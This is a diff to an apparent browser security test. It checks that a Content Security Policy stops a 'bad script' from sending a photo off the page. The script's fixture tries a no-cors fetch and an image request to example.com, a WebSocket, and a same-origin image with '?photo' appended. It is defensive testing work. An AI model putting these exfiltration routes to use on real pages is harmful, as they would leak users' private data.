@@ -135,7 +135,7 @@ def test_even_a_bad_script_could_not_send_the_photo(browser: Browser, site: Path
     finally:
         page.close()
     assert {name for name, result in tried.items() if result == "sent"} <= {"beacon"}  # queued, then barred
-    assert [each for each in received if "icons/" not in each] == []  # the browser's own, for its tab
+    assert received == []
     assert failures
     assert set(failures) == {"csp"}
 
@@ -153,6 +153,7 @@ BAD_SCRIPT = """async (own) => {
   await attempt("fetch away", () => fetch("https://example.com/", { mode: "no-cors" }));
   await attempt("socket", () => load(new WebSocket("ws://127.0.0.1:9/")));
   await attempt("image away", () => load(new Image(), "https://example.com/?photo"));
+  await attempt("image here", () => load(new Image(), own + "icons/icon.svg?photo"));
   await attempt("request", () => {
     const request = new XMLHttpRequest();
     request.open("POST", own);
